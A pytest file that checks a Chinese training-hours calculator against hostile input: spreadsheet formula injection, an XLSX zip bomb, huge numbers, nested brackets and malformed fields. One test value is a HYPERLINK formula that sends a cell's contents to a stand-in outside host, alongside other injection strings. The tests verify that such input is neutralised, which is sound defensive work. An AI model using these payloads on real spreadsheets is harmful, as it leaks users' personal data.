"""Hostile and messy input, one test per finding (issue 13), through the two public entry
points only: `calculator.api.handle` and ``python -m calculator``. The fuzz
(tests/test_fuzz_*.py) finds such things at random; these pin each one down.

Calls that used to hang run in the fuzz's child process, which is killed after a bound."""

from __future__ import annotations

import base64
import csv
import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from calculator.api import handle
from calculator.forms.idcard import check_char
from tests.fuzz import checks
from tests.fuzz.hostile import _bomb
from tests.fuzz.runner import CPU_LIMIT, Worker

ROOT = Path(__file__).resolve().parent.parent
LY, HN = "henan-luoyang-2023", "hunan-2023"
CJK = checks.CJK


def valid(base17: str) -> str:
    return base17 + check_char(base17)


ID1, ID2, ID3 = valid("41030219850615123"), valid("41030319900101234"), valid("41030419951231078")
FORMULAS = ['=HYPERLINK("http://example.invalid/?"&E2,"点此")', "+1-1", "-1", "@SUM(A1:A2)", "\t=1+1", "=1+1"]


def call(op: str, data) -> dict:
    answer = json.loads(handle(json.dumps({"op": op, "input": data}, ensure_ascii=False)))
    assert isinstance(answer["ok"], bool)
    if not answer["ok"]:
        checks.chinese(answer["error"]["problem"], op)
    return answer


def error_of(op: str, data) -> dict:
    answer = call(op, data)
    assert answer["ok"] is False, answer
    return answer["error"]


@pytest.fixture(scope="module")
def worker():
    w = Worker()
    yield w
    w.close()


def bounded(worker, op: str, data) -> dict:
    """`handle` in the child process: the answer within the time bound, checked."""
    answer = worker.call({"handle": json.dumps({"op": op, "input": data})})
    checks.worker_answer(answer, op)
    assert answer["cpu"] <= CPU_LIMIT
    return checks.handle_answer(op, answer["response"])


def cli(*argv, stdin: bytes | None = None, cwd: Path | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "calculator", *argv], cwd=cwd or ROOT, input=stdin,
                          capture_output=True, timeout=60, env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"})


def cli_error(process: subprocess.CompletedProcess) -> str:
    err = process.stderr.decode("utf-8")
    assert process.returncode == 2 and "Traceback" not in err, (process.returncode, err[-2000:])
    line = err.strip().splitlines()[-1]
    assert line.startswith("错误：")
    field, sep, problem = line.removeprefix("错误：").partition(": ")
    checks.chinese(problem if sep and not CJK.search(field) else line.removeprefix("错误："), "cli")
    return line


def roster_csv(rows: list[list[str]], header=("序号", "姓名", "性别", "专业", "身份证号码", "公需科目学时", "专业科目学时", "成绩评定")) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([list(header), *rows])
    return out.getvalue()


def grade_sheet(upload: dict, fmt: str) -> dict:
    answer = call("form", {"policy": LY, "form": "grade_sheet", "format": fmt,
                           "source": {"roster": upload, "import_form": "grade_sheet"}})
    assert answer["ok"], answer
    return answer["result"]


# ----------------------------------------------------------------- 1. formula injection


def test_formula_names_download_as_inert_text_in_csv_and_xlsx():
    rows = [[str(i), name, "", "临床医学", ident, "30", "60", ""]
            for i, (name, ident) in enumerate(zip(FORMULAS, [ID1, ID2, ID3, valid("41030519880229568"),
                                                             valid("41030619800101001"), valid("41030719700101002")]), 1)]
    upload = {"format": "csv", "text": roster_csv(rows)}
    text = grade_sheet(upload, "csv")["text"]
    checks.csv_inert(text, "csv")
    cells = [row for row in csv.reader(io.StringIO(text.lstrip("\ufeff")))]
    names = [row[1] for row in cells[1:]]
    assert names == ["'" + n.lstrip("\t") if n.lstrip("\t")[:1] in "=+-@" else n for n in [n.strip() for n in FORMULAS]]
    book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(grade_sheet(upload, "xlsx")["base64"])))
    checks.xlsx_inert(base64.b64decode(grade_sheet(upload, "xlsx")["base64"]), "xlsx")
    texts = {c.value for row in book.active.iter_rows() for c in row if isinstance(c.value, str)}
    assert {n.strip() for n in FORMULAS} <= texts          # the names themselves, as text


def test_the_id_guard_of_the_csv_is_a_constant_of_digits_only():
    """="410302..." keeps Excel from turning an ID into 4.10302E+17; it is safe because an
    ID number reaches the CSV only after its check (18 characters, digits and X), and a
    phone number only as digits, spaces and + - ( ) 转."""
    upload = {"format": "csv", "text": roster_csv([["1", "张伟", "", "临床医学", ID1, "30", "60", ""],
                                                  ["2", "王芳", "", "护理", '=1+1"&"', "30", "60", ""]])}
    text = grade_sheet(upload, "csv")["text"]
    guarded = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row if c.startswith("=")]
    assert guarded == [f'="{ID1}"']
    assert all(checks.ID_GUARD.fullmatch(c) for c in guarded)


def test_a_download_read_back_gives_the_names_as_typed():
    rows = [["1", "=1+1", "", "临床医学", ID1, "30", "60", ""], ["2", "@张", "", "护理", ID2, "30", "60", ""]]
    first = grade_sheet({"format": "csv", "text": roster_csv(rows)}, "csv")["text"]
    again = call("roster", {"policy": LY, "form": "grade_sheet", "format": "csv", "text": first})["result"]
    assert [p["name"] for p in again["people"]] == ["=1+1", "@张"]


# ----------------------------------------------------------------- 2. no hangs


@pytest.mark.parametrize("where", ["roster", "plan", "form rows", "selfcheck", "fund"])
def test_huge_exponents_answer_within_a_second(worker, where):
    big = "1e2000000"
    if where == "roster":
        answer = bounded(worker, "roster", {"policy": LY, "form": "grade_sheet", "format": "csv",
                                            "text": roster_csv([["1", "张伟", "", "临床医学", ID1, big, "60", ""]])})
        assert answer["ok"] and answer["result"]["problems"][0]["column"] == "公需科目"
    elif where == "plan":
        answer = bounded(worker, "plan", {"policy": LY, "sessions": [
            {"category": "public", "date": "2023-05-10", "period": "morning", "hours": big}]})
        assert answer["ok"] and answer["result"]["problems"][0]["where"] == "sessions[0].hours"
    elif where == "form rows":
        answer = bounded(worker, "form", {"policy": LY, "form": "grade_sheet", "format": "html",
                                          "values": {"rows": [{"name": "张伟", "public": big}]}})
        assert answer["error"]["field"] == "rows[0].public"
    elif where == "selfcheck":
        draft = {"mode": "year", "year": "2023", "activities": [{"kind": "certified_hours", "category": "public", "hours": big}]}
        answer = bounded(worker, "form", {"policy": LY, "form": "cadre_offset", "format": "html",
                                          "source": {"selfcheck": draft}})
        assert answer["ok"] is False and answer["error"]["field"].endswith("activities[0].hours")
    else:
        answer = bounded(worker, "fund", {"policy": LY, "payroll": big})
        assert answer["error"]["field"] == "payroll"


# ----------------------------------------------------------------- 3. escaped exceptions


def test_circled_digits_are_reported_not_raised():
    plan = call("plan", {"policy": LY, "sessions": [{"category": "public", "date": "2023-05-10", "period": "morning",
                                                      "hours": 3, "people": "①"}]})
    assert plan["ok"] and plan["result"]["problems"][0]["where"] == "sessions[0].people"
    assert error_of("form", {"policy": LY, "form": "filing", "format": "html",
                             "values": {"fields": {"trainees": "①"}}})["field"] == "fields.trainees"


def test_a_word_line_break_in_a_cell_downloads_as_a_line_break():
    result = call("form", {"policy": LY, "form": "grade_sheet", "format": "xlsx",
                           "values": {"rows": [{"name": "张\x0b伟", "specialty": "临床\x07医学"}]}})
    assert result["ok"], result
    sheet = openpyxl.load_workbook(io.BytesIO(base64.b64decode(result["result"]["base64"]))).active
    values = {c.value for row in sheet.iter_rows() for c in row}
    assert "张\n伟" in values and "临床医学" in values


@pytest.mark.parametrize("op, data, field", [
    ("span", {"policy": HN, "postings": [{"kind": [], "start": "2021-03", "end": "2022-06", "assessed_qualified": True}]},
     "postings[0].kind"),
    ("form", {"policy": LY, "form": "grade_sheet", "format": []}, "format"),
    ("fund", {"policy": LY, "payroll": "1000", "rate": ["general-enterprise"]}, "rate"),
    ("form", {"policy": LY, "form": "nope", "source": {"plan": {}}}, "form"),
    ("form", {"policy": LY, "form": "cadre_offset", "source": {"selfcheck": {"activities": "x"}}},
     "source.selfcheck.activities"),
    ("form", {"policy": LY, "form": "cadre_offset", "source": {"selfcheck": {"year": []}}}, "year"),
    ("form", {"policy": LY, "form": "plan", "source": {"plan": []}}, "source.plan"),
    ("assess", {"policy": HN, "": 1}, '""'),
    # Found by `python -m tests.fuzz.report` after the merge of issue 17.
    ("form", {"policy": LY, "form": "grade_sheet", "format": "csv",
              "source": {"roster": {"format": "csv", "text": "姓名\n"}, "import_form": ["grade_sheet"]}},
     "source.import_form"),
    ("form", {"policy": LY, "form": ["grade_sheet"], "format": "csv"}, "form"),
])
def test_wrong_shapes_are_input_errors_naming_the_field(op, data, field):
    assert error_of(op, data)["field"] == field


def test_wrong_shapes_in_the_plan_are_problems_of_their_session():
    plan = call("plan", {"policy": LY, "sessions": [{"category": "public", "date": "2023-05-10", "period": {},
                                                      "hours": 3}]})
    assert plan["ok"] and plan["result"]["problems"][0]["where"] == "sessions[0].period"


@pytest.mark.parametrize("text", ['{"op": []}', '{"op": {}}', "[" * 100_000 + "]" * 100_000,
                                  '{"op": "assess", "input": ' + "[" * 100_000 + "]" * 100_000 + "}",
                                  '{"op": "assess", "input": {"year": ' + "9" * 5000 + "}}", "", "{", '{"op": "assess",}'])
def test_any_request_text_is_answered_in_chinese(text):
    answer = json.loads(handle(text))
    assert answer["ok"] is False and answer["error"]["field"] in ("op", "request", "input", "year")
    checks.chinese(answer["error"]["problem"], "request")


def test_a_lone_surrogate_is_an_input_error_or_comes_back_encodable(tmp_path):
    data = {"policy": HN, "activities": [{"kind": "paper", "role": "first_author", "label": "\ud800"}]}
    answer = handle(json.dumps({"op": "assess", "input": data}))
    answer.encode("utf-8")
    path = tmp_path / "in.json"
    path.write_text(json.dumps(data), encoding="ascii")
    process = cli("assess", str(path), "--json")
    if process.returncode == 0:
        json.loads(process.stdout.decode("utf-8"))
    else:
        assert "activities[0].label" in cli_error(process)


@pytest.mark.parametrize("name, content", [
    ("in.json", '{"policy": "hunan-2023", "year": ' + "9" * 5000 + "}"),
    ("in.toml", 'policy = "hunan-2023"\nyear = ' + "9" * 5000 + "\n"),
    ("in.json", '{"policy": "hunan-2023", "activities": ' + "[" * 100_000 + "]" * 100_000 + "}"),
    ("in.toml", 'policy = "hunan-2023"\nactivities = ' + "[" * 100_000 + "]" * 100_000 + "\n"),
    ("in.json", ""),
    ("in.toml", "policy = \n"),
    ("in.json", '{"policy": "hunan-2023",}'),
])
def test_cli_input_files_that_break_parsers_exit_2_in_chinese(tmp_path, name, content):
    (tmp_path / name).write_text(content, encoding="utf-8")
    cli_error(cli("assess", name, cwd=tmp_path))


def test_cli_file_system_errors_are_chinese(tmp_path):
    line = cli_error(cli("form", f"{LY}/grade_sheet", "--roster", "missing.csv", "--out", "o.csv", cwd=tmp_path))
    assert "missing.csv" in line
    cli_error(cli("form", f"{LY}/grade_sheet", "--out", "missing/o.xlsx", cwd=tmp_path))
    (tmp_path / "r.xlsx").write_bytes(b"not a zip")
    cli_error(cli("form", f"{LY}/grade_sheet", "--roster", "r.xlsx", "--out", "o.csv", cwd=tmp_path))
    cli_error(cli("assess", "-", stdin=b"\xff\xfe"))


# ----------------------------------------------------------------- 5. imports that were wrong silently


def xlsx(rows: list[list], merges: list[str] = (), numbers_as_text: bool = True) -> str:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    for ref in merges:
        sheet.merge_cells(ref)
    out = io.BytesIO()
    book.save(out)
    return base64.b64encode(out.getvalue()).decode("ascii")


HEADER = ["序号", "姓名", "性别", "专业", "身份证号码", "公需科目学时", "专业科目学时", "成绩评定"]


def imported(b64: str) -> dict:
    answer = call("roster", {"policy": LY, "form": "grade_sheet", "format": "xlsx", "base64": b64})
    assert answer["ok"], answer
    return answer["result"]


def test_values_merged_over_rows_fill_down():
    b64 = xlsx([HEADER, [1, "张伟", "", "临床医学", ID1, 30, 60, "合格"],
                [2, "王芳", "", None, ID2, 30, 60, None], [3, "李娟", "", None, ID3, 30, 60, None]],
               merges=["D2:D4", "H2:H4"])
    result = imported(b64)
    assert [(p["specialty"], p["grade"]) for p in result["people"]] == [("临床医学", "合格")] * 3


def test_formulas_without_a_cached_value_are_reported_by_cell():
    b64 = xlsx([HEADER, [1, "张伟", "", "临床医学", ID1, "=10+20", 60, ""]])
    result = imported(b64)
    assert result["counts"]["kept"] == 0
    [problem] = result["problems"]
    assert "F2" in problem["reason"] and "公式" in problem["reason"]


@pytest.mark.parametrize("number", [float(ID1[:17]) * 10, 410302198506151000])
def test_ids_that_excel_turned_into_numbers_get_their_own_message(number):
    result = imported(xlsx([HEADER, [1, "张伟", "", "临床医学", number, 30, 60, ""]]))
    [problem] = result["problems"]
    assert "Excel" in problem["reason"] and "文本" in problem["reason"]


def test_one_problem_per_row_is_reported_once():
    text = roster_csv([["1", "", "男", "临床医学", "123", "三十", "60", ""]])
    result = call("roster", {"policy": LY, "form": "grade_sheet", "format": "csv", "text": text})["result"]
    lines = [p["line"] for p in result["problems"]]
    reasons = [p["reason"] for p in result["problems"]]
    assert len(reasons) == len(set(reasons)) and result["counts"]["rejected"] == 1 and len(set(lines)) == 1


# ----------------------------------------------------------------- 6. sizes and empty imports


def test_an_xlsx_bomb_is_refused_quickly(worker):
    answer = bounded(worker, "roster", {"policy": LY, "form": "grade_sheet", "format": "xlsx",
                                        "base64": base64.b64encode(_bomb()).decode("ascii")})
    assert answer["ok"] is False and answer["error"]["field"] == "file" and "MB" in answer["error"]["problem"]


def test_a_file_too_large_is_refused(worker):
    huge = base64.b64encode(b"a" * (30 * 1024 * 1024)).decode("ascii")
    answer = bounded(worker, "roster", {"policy": LY, "form": "grade_sheet", "format": "csv", "base64": huge})
    assert answer["ok"] is False and answer["error"]["field"] == "file" and "MB" in answer["error"]["problem"]


def test_an_import_that_keeps_no_row_says_so(tmp_path):
    text = roster_csv([["1", "", "男", "临床医学", ID1, "30", "60", ""]])
    result = call("roster", {"policy": LY, "form": "grade_sheet", "format": "csv", "text": text})["result"]
    assert result["counts"]["kept"] == 0 and result["problems"]
    (tmp_path / "r.csv").write_text(text, encoding="utf-8")
    line = cli_error(cli("form", f"{LY}/grade_sheet", "--roster", "r.csv", "--out", "o.xlsx", cwd=tmp_path))
    assert "没有" in line
    assert not (tmp_path / "o.xlsx").exists()
